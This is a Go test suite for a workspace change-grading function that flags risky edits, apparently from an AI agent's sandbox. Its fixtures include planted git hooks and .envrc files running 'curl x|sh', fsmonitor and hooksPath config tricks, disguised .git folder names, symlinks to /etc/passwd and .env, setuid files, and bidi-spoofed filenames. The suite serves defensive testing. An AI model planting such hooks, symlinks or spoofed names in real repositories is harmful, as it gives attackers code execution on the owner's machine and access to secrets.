package workspace

import (
	"archive/tar"
	"fmt"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// sensitiveForTest stands in for workspace.Sensitive until it lands.
func sensitiveForTest(rel string) bool {
	base := strings.ToLower(filepath.Base(rel))
	return base == ".env" || strings.HasPrefix(base, ".env.") || strings.HasSuffix(base, ".pem")
}

type gradeCase struct {
	name  string
	setup func(t *testing.T, root string) // optional
	up    func(t *testing.T, root string) upper
	opts  func(o *GradeOptions) // optional
	want  Grade
	// text and path: some reason's text contains text and names path.
	text, path string
	refused    bool
}

func runGradeCases(t *testing.T, cases []gradeCase) {
	t.Helper()
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture(t, func(o *Options) { o.Protected = append(o.Protected, filepath.Join(o.Roots[0].Path, ".homard")) })
			write(t, f.root, "README.md", "hello\n")
			if tc.setup != nil {
				tc.setup(t, f.root)
			}
			cs := tc.up(t, f.root).read(t)
			o := GradeOptions{RunsCode: true, Sensitive: sensitiveForTest}
			if tc.opts != nil {
				tc.opts(&o)
			}
			g, err := f.ws.Grade("main", cs, o)
			if err != nil {
				t.Fatalf("Grade: %v", err)
			}
			var reasons []string
			found := tc.text == ""
			for _, r := range g.Reasons {
				reasons = append(reasons, r.String())
				if tc.text != "" && strings.Contains(r.Text, tc.text) && slices.Contains(r.Paths, tc.path) && r.Refused == tc.refused {
					found = true
				}
			}
			if g.Grade != tc.want || !found {
				t.Errorf("Grade = %s with reasons\n  %s\nchanges:\n  %s\nwant %s with a reason containing %q naming %q (refused %v)",
					g.Grade, strings.Join(reasons, "\n  "), strings.Join(g.Paths(), "\n  "), tc.want, tc.text, tc.path, tc.refused)
			}
			for _, r := range g.Reasons {
				if tc.want <= GradeMedium && !strings.Contains(r.Text, RunsWhenBuilt) {
					t.Errorf("a %s change set has reasons other than build-file notes: %v", g.Grade, reasons)
				}
			}
		})
	}
}

func none(t *testing.T, root string) upper { return nil }

// TestGradeProtectedSet: every attack on the protected set is critical
// and named; each twin, the legitimate change next to it, is medium.
func TestGradeProtectedSet(t *testing.T) {
	repo := func(config string) func(t *testing.T, root string) {
		return func(t *testing.T, root string) { writeRepo(t, root, ".", config) }
	}
	plainRepo := repo("[core]\n\tbare = false\n")
	runGradeCases(t, []gradeCase{
		{name: "nothing", up: none, want: GradeLow},
		{name: "copied-up parent folders only", setup: func(t *testing.T, root string) { write(t, root, "src/a/b.go", "x") },
			up: func(*testing.T, string) upper { return upper{}.dir("src").dir("src/a") }, want: GradeLow},
		{name: "copied-up unchanged file", setup: func(t *testing.T, root string) { write(t, root, "a.txt", "same") },
			up: func(*testing.T, string) upper { return upper{}.file("a.txt", "same") }, want: GradeLow},
		{name: "twin: ordinary edit, create, delete", setup: func(t *testing.T, root string) { write(t, root, "a.txt", "old"); write(t, root, "b.txt", "b") },
			up: func(*testing.T, string) upper {
				return upper{}.file("a.txt", "new").file("src/c.go", "c").whiteout("b.txt")
			}, want: GradeMedium},

		{name: "hook in existing .git", setup: plainRepo,
			up: func(*testing.T, string) upper {
				return upper{}.fileMode(".git/hooks/pre-commit", "#!/bin/sh\ncurl x|sh\n", 0o755)
			},
			want: GradeCritical, text: "outside git's own data", path: ".git/hooks/pre-commit"},
		{name: "config of existing .git", setup: plainRepo,
			up:   func(*testing.T, string) upper { return upper{}.file(".git/config", "[core]\n\tfsmonitor = ./x\n") },
			want: GradeCritical, text: "outside git's own data", path: ".git/config"},
		{name: "info/exclude hides planted files", setup: plainRepo,
			up:   func(*testing.T, string) upper { return upper{}.file(".git/info/exclude", "evil\n") },
			want: GradeCritical, text: "outside git's own data", path: ".git/info/exclude"},
		{name: "alternates", setup: plainRepo,
			up:   func(*testing.T, string) upper { return upper{}.file(".git/objects/info/alternates", "/tmp/x\n") },
			want: GradeCritical, text: "outside git's own data", path: ".git/objects/info/alternates"},
		{name: "deleting a hook", setup: plainRepo,
			up:   func(*testing.T, string) upper { return upper{}.whiteout(".git/hooks/pre-commit.sample") },
			want: GradeCritical, text: "outside git's own data", path: ".git/hooks/pre-commit.sample"},

		{name: "new sub/.git folder", up: func(*testing.T, string) upper { return upper{}.file("sub/.git/HEAD", "ref: refs/heads/main\n") },
			want: GradeCritical, text: "creates repository metadata", path: "sub/.git"},
		{name: "new .git gitdir file", up: func(*testing.T, string) upper { return upper{}.file("sub/.git", "gitdir: ../evil\n") },
			want: GradeCritical, text: "creates repository metadata", path: "sub/.git"},
		{name: "new .git symlink", up: func(*testing.T, string) upper { return upper{}.symlink(".git", "evil") },
			want: GradeCritical, text: "creates repository metadata", path: ".git"},
		{name: "new .GIT", up: func(*testing.T, string) upper { return upper{}.file("sub/.GIT/config", "x") },
			want: GradeCritical, text: "creates repository metadata", path: "sub/.GIT"},
		{name: "new .git. with trailing dot", up: func(*testing.T, string) upper { return upper{}.file("sub/.git./config", "x") },
			want: GradeCritical, text: "creates repository metadata", path: "sub/.git."},
		{name: "new GIT~1", up: func(*testing.T, string) upper { return upper{}.file("sub/GIT~1/config", "x") },
			want: GradeCritical, text: "creates repository metadata", path: "sub/GIT~1"},
		{name: "twin: .gitignore and git.txt", up: func(*testing.T, string) upper { return upper{}.file("sub/.gitignore", "x").file("sub/git.txt", "y") },
			want: GradeMedium},

		{name: "bare repository folder", up: func(*testing.T, string) upper {
			return upper{}.file("evil/HEAD", "ref: refs/heads/main\n").file("evil/config", "[core]\n").dir("evil/objects").dir("evil/refs")
		}, want: GradeCritical, text: "creates a git repository", path: "evil"},
		{name: "twin: a folder with a HEAD file", up: func(*testing.T, string) upper { return upper{}.file("docs/HEAD", "notes").dir("docs/refs") },
			want: GradeMedium},

		{name: "include.path target", setup: repo("[include]\n\tpath = ../shared/git.cfg\n"),
			up:   func(*testing.T, string) upper { return upper{}.file("shared/git.cfg", "[core]\n\thooksPath = x\n") },
			want: GradeCritical, text: "repository config names (include.path)", path: "shared/git.cfg"},
		{name: "includeIf target", setup: repo("[includeIf \"onbranch:main\"]\n\tpath = \"../cfg/extra\" ; comment\n"),
			up:   func(*testing.T, string) upper { return upper{}.file("cfg/extra", "x") },
			want: GradeCritical, text: "repository config names (includeIf.path)", path: "cfg/extra"},
		{name: "hooksPath folder", setup: repo("[core]\n\thooksPath = tools/hooks\n"),
			up:   func(*testing.T, string) upper { return upper{}.fileMode("tools/hooks/pre-commit", "x", 0o755) },
			want: GradeCritical, text: "repository config names (core.hooksPath)", path: "tools/hooks/pre-commit"},
		{name: "twin: next to the hooksPath folder", setup: repo("[core]\n\thooksPath = tools/hooks\n"),
			up: func(*testing.T, string) upper { return upper{}.file("tools/build.sh", "x") }, want: GradeMedium},

		{name: ".vscode/settings.json", up: func(*testing.T, string) upper { return upper{}.file(".vscode/settings.json", "{}") },
			want: GradeCritical, text: "owner's tools execute (.vscode/)", path: ".vscode/settings.json"},
		{name: "nested .envrc", up: func(*testing.T, string) upper { return upper{}.file("sub/.envrc", "curl x|sh") },
			want: GradeCritical, text: "owner's tools execute (.envrc)", path: "sub/.envrc"},
		{name: ".lintstagedrc.json", up: func(*testing.T, string) upper { return upper{}.file(".lintstagedrc.json", "{}") },
			want: GradeCritical, text: "owner's tools execute (.lintstagedrc*)", path: ".lintstagedrc.json"},
		{name: "workflow", up: func(*testing.T, string) upper { return upper{}.file(".github/workflows/ci.yml", "x") },
			want: GradeCritical, text: "owner's tools execute", path: ".github/workflows/ci.yml"},
		{name: "twin: vscode.md and .github/ISSUE_TEMPLATE", up: func(*testing.T, string) upper {
			return upper{}.file("vscode.md", "x").file(".github/ISSUE_TEMPLATE/bug.md", "y").file("Makefile", "all:\n")
		}, want: GradeMedium},
		{name: "host tools list replaced", up: func(*testing.T, string) upper { return upper{}.file(".vscode/settings.json", "{}") },
			opts: func(o *GradeOptions) { o.HostTools = []string{"tools/"} }, want: GradeMedium},

		{name: "touches .env", setup: func(t *testing.T, root string) { write(t, root, ".env", "KEY=1") },
			up:   func(*testing.T, string) upper { return upper{}.file(".env", "KEY=2") },
			want: GradeCritical, text: "sensitive", path: ".env"},
		{name: "twin: a file next to .env", setup: func(t *testing.T, root string) { write(t, root, ".env", "KEY=1") },
			up: func(*testing.T, string) upper { return upper{}.file("env.go", "package env") }, want: GradeMedium},

		{name: "homard's own data", up: func(*testing.T, string) upper { return upper{}.file(".homard/config.toml", "mode='yolo'") },
			want: GradeCritical, text: "homard's own data", path: ".homard/config.toml", refused: true},
	})
}

// TestGradeUnsafeEntries: links, bits, kinds and names that are never
// applied, or only with a card; each with its twin.
func TestGradeUnsafeEntries(t *testing.T) {
	hooks := func(t *testing.T, root string) { writeRepo(t, root, ".", "") }
	runGradeCases(t, []gradeCase{
		{name: "upper file over the owner's symlink to a hook", setup: func(t *testing.T, root string) {
			hooks(t, root)
			symlink(t, ".git/hooks/pre-commit", filepath.Join(root, "link"))
		}, up: func(*testing.T, string) upper { return upper{}.file("link", "#!/bin/sh\n") },
			want: GradeCritical, text: "replaces the owner's symlink that points into repository metadata", path: "link"},
		{name: "upper folder over the owner's symlink to .git/hooks", setup: func(t *testing.T, root string) {
			hooks(t, root)
			symlink(t, ".git/hooks", filepath.Join(root, "hk"))
		}, up: func(*testing.T, string) upper { return upper{}.dir("hk").file("hk/pre-commit", "x") },
			want: GradeCritical, text: "replaces the owner's symlink", path: "hk"},
		{name: "upper file over the owner's symlink to .env", setup: func(t *testing.T, root string) {
			write(t, root, ".env", "K=1")
			symlink(t, ".env", filepath.Join(root, "cfg"))
		}, up: func(*testing.T, string) upper { return upper{}.file("cfg", "x") },
			want: GradeCritical, text: "replaces the owner's symlink that points into the protected set", path: "cfg"},
		{name: "new symlink to .env", up: func(*testing.T, string) upper { return upper{}.symlink("e", "sub/../.env") },
			want: GradeCritical, text: "points into the protected set", path: "e", refused: true},
		{name: "new symlink to a hook through another new symlink", setup: hooks, up: func(*testing.T, string) upper {
			return upper{}.symlink("a", "b/pre-commit").symlink("b", ".git/hooks")
		}, want: GradeCritical, text: "points into repository metadata", path: "a", refused: true},
		{name: "absolute symlink", up: func(*testing.T, string) upper { return upper{}.symlink("p", "/etc/passwd") },
			want: GradeCritical, text: "absolute", path: "p", refused: true},
		{name: "symlink out of the root", up: func(*testing.T, string) upper { return upper{}.symlink("sub/p", "../../outside") },
			want: GradeCritical, text: "leads outside the workspace root", path: "sub/p", refused: true},
		{name: "twin: symlink inside the root", setup: func(t *testing.T, root string) { write(t, root, "src/main.go", "x") },
			up: func(*testing.T, string) upper { return upper{}.symlink("bin/main.go", "../src/main.go") }, want: GradeMedium},

		{name: "setuid", up: func(*testing.T, string) upper { return upper{}.fileMode("tool", "x", 0o4755) },
			want: GradeCritical, text: "setuid", path: "tool"},
		{name: "twin: executable", up: func(*testing.T, string) upper { return upper{}.fileMode("tool", "x", 0o755) }, want: GradeMedium},
		{name: "fifo", up: func(*testing.T, string) upper { return upper{}.special("p", tar.TypeFifo, 0, nil) },
			want: GradeCritical, text: "named pipe", path: "p", refused: true},
		{name: "socket", up: func(*testing.T, string) upper {
			return upper{}.special("s", tar.TypeFifo, 0, map[string]string{paxKind: "socket"})
		}, want: GradeCritical, text: "socket", path: "s", refused: true},
		{name: "device", up: func(*testing.T, string) upper { return upper{}.special("null", tar.TypeChar, 1, nil) },
			want: GradeCritical, text: "device", path: "null", refused: true},
		{name: "escape in a name", up: func(*testing.T, string) upper { return upper{}.file("a\x1b[8m.txt", "x") },
			want: GradeCritical, text: "control character", path: "a\x1b[8m.txt", refused: true},
		{name: "bidi override in a name", up: func(*testing.T, string) upper { return upper{}.file("invoice\u202etxt.sh", "x") },
			want: GradeCritical, text: "bidirectional", path: "invoice\u202etxt.sh", refused: true},
		{name: "zero-width in a name", up: func(*testing.T, string) upper { return upper{}.file("ma\u200bin.go", "x") },
			want: GradeCritical, text: "zero-width", path: "ma\u200bin.go", refused: true},
		{name: "twin: accented name", up: func(*testing.T, string) upper { return upper{}.file("café/naïve.txt", "x") }, want: GradeMedium},
	})
}

// TestGradeVolumeAndPlan: many deletions, outside the plan, checkpoints.
func TestGradeVolumeAndPlan(t *testing.T) {
	files := func(n int) func(t *testing.T, root string) {
		return func(t *testing.T, root string) {
			for i := range n {
				write(t, root, fmt.Sprintf("big/f%04d", i), "x")
			}
		}
	}
	runGradeCases(t, []gradeCase{
		{name: "deletes 1000 files", setup: files(1000), up: func(*testing.T, string) upper { return upper{}.whiteout("big") },
			want: GradeHigh, text: "deletes 1000 files", path: "."},
		{name: "twin: deletes 10 files", setup: files(10), up: func(*testing.T, string) upper { return upper{}.whiteout("big") },
			want: GradeMedium},
		{name: "opaque folder drops the rest", setup: files(150), up: func(*testing.T, string) upper {
			return upper{}.opaqueDir("big").file("big/f0000", "y")
		}, want: GradeHigh, text: "deletes 149 files", path: "."},
		{name: "outside the plan", up: func(*testing.T, string) upper { return upper{}.file("src/x.go", "x").file("build/out", "y") },
			opts: func(o *GradeOptions) { o.Expected = []string{"build/"} },
			want: GradeHigh, text: "not expected", path: "src/x.go"},
		{name: "twin: inside the plan", up: func(*testing.T, string) upper { return upper{}.file("build/sub/out", "y") },
			opts: func(o *GradeOptions) { o.Expected = []string{"build/"}; o.RunsCode = false }, want: GradeMedium},
		{name: "a write-nothing plan that wrote", up: func(*testing.T, string) upper { return upper{}.file("x", "y") },
			opts: func(o *GradeOptions) { o.RunsCode = false }, want: GradeHigh, text: "not expected", path: "x"},
		{name: "too many bytes", up: func(*testing.T, string) upper { return upper{}.file("x", strings.Repeat("y", 100)) },
			opts: func(o *GradeOptions) { o.MaxBytes = 99 }, want: GradeHigh, text: "writes 100 bytes", path: "."},
	})
}

// TestGradeRefs: git-shaped changes to an existing repository.
func TestGradeRefs(t *testing.T) {
	var base string
	setup := func(t *testing.T, root string) { base = writeRepo(t, root, ".", "") }
	commitOn := func(parent bool) func(t *testing.T, root string) upper {
		return func(t *testing.T, root string) upper {
			var id, obj string
			if parent {
				id, obj = commit("next", base)
			} else {
				id, obj = commit("unrelated")
			}
			blob, bobj := looseObject("blob", "hello\n")
			return upper{}.
				file(objectPath(".git", id), obj).
				file(objectPath(".git", blob), bobj).
				file(".git/index", "new index").
				file(".git/refs/heads/main", id+"\n").
				file(".git/logs/HEAD", base+" "+id+" a <a@b> 1 +0000\tcommit: next\n").
				file(".git/logs/refs/heads/main", "x").
				file(".git/COMMIT_EDITMSG", "next\n").
				file("hello.txt", "hello\n")
		}
	}
	runGradeCases(t, []gradeCase{
		{name: "twin: git add and commit (fast-forward)", setup: setup, up: commitOn(true), want: GradeMedium},
		{name: "branch moved to an unrelated commit", setup: setup, up: commitOn(false),
			want: GradeHigh, text: "not proven to descend", path: ".git/refs/heads/main"},
		{name: "branch deleted", setup: func(t *testing.T, root string) {
			setup(t, root)
			write(t, root, ".git/refs/heads/feature", base+"\n")
		}, up: func(*testing.T, string) upper { return upper{}.whiteout(".git/refs/heads/feature") },
			want: GradeHigh, text: "deletes a branch", path: ".git/refs/heads/feature"},
		{name: "branch deleted from packed-refs", setup: func(t *testing.T, root string) {
			setup(t, root)
			write(t, root, ".git/packed-refs", "# pack-refs with: peeled\n"+base+" refs/heads/old\n")
		}, up: func(*testing.T, string) upper { return upper{}.file(".git/packed-refs", "# pack-refs with: peeled\n") },
			want: GradeHigh, text: "deletes a branch", path: ".git/refs/heads/old"},
		{name: "twin: new branch", setup: setup, up: func(*testing.T, string) upper {
			return upper{}.file(".git/refs/heads/topic", base+"\n")
		}, want: GradeMedium},
		{name: "HEAD detached", setup: setup, up: func(*testing.T, string) upper { return upper{}.file(".git/HEAD", base+"\n") },
			want: GradeHigh, text: "detaches HEAD", path: ".git/HEAD"},
		{name: "twin: HEAD to another branch", setup: setup, up: func(*testing.T, string) upper {
			return upper{}.file(".git/HEAD", "ref: refs/heads/topic\n").file(".git/refs/heads/topic", base+"\n")
		}, want: GradeMedium},
	})
}

func TestGitLike(t *testing.T) {
	for _, e := range []string{".git", ".GIT", ".Git", ".git.", ".git ", ".git. .", "git~1", "GIT~12", ".git::$INDEX_ALLOCATION"} {
		if !gitLike(e) {
			t.Errorf("gitLike(%q) = false; want true", e)
		}
	}
	for _, e := range []string{".github", ".gitignore", "git", ".gitx", "git~", "git~a", "x.git"} {
		if gitLike(e) {
			t.Errorf("gitLike(%q) = true; want false", e)
		}
	}
}

func TestParseGitConfig(t *testing.T) {
	cfg := "[core]\n\thooksPath = \"a b\" # c\n[includeIf \"gitdir:x\"]\n  path = y\\\n z\n[Include]\nPATH=w;x\n[alias] l\n"
	got := fmt.Sprint(parseGitConfig(cfg))
	want := "[{core hookspath a b} {includeif path yz} {include path w} {alias l true}]"
	if got != want {
		t.Errorf("parseGitConfig = %s; want %s", got, want)
	}
}
